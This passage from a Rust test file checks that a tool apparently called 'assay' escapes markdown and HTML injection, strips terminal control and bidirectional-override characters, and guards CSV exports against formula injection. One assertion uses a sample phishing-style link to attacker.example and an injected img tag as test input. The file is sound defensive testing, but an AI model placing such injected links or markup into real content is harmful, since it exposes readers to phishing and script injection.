    assert!(md.contains("\\[click\\](https://attacker.example/login) &lt;img src=x&gt; \\*bold\\* \\`code\\`"), "{md}");
    assert!(md.contains("\\# Heading !\\[x\\]"), "the line break is gone and # is text");
    assert!(assets.contains("!\\[x\\]("), "{assets}");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]

    /// Whatever the text, what assay prints of it holds nothing a terminal would obey.
    #[test]
    fn visible_text_is_always_safe(s in "\\PC*|[\\x00-\\x1f\\x7f-\\u{9f}\\u{200e}\\u{202a}-\\u{202e}\\u{2066}-\\u{2069}a=]*") {
        let shown = assay::visible::visible(&s);
        proptest::prop_assert!(!shown.chars().any(assay::visible::is_unsafe));
        proptest::prop_assert_eq!(assay::visible::visible(&shown), shown.clone());
    }

    /// The formula guard of a CSV export always comes off on import, and only it.
    #[test]
    fn the_formula_guard_round_trips(s in "['=+@\\t\\r-]{0,3}.{0,12}") {
        use assay::domain::fields::{guard_formula, unguard_formula};
        let guarded = guard_formula(&s);
        proptest::prop_assert!(!guarded.starts_with(['=', '+', '-', '@', '\t', '\r']));
        proptest::prop_assert_eq!(unguard_formula(&guarded), s.as_str());
    }
}
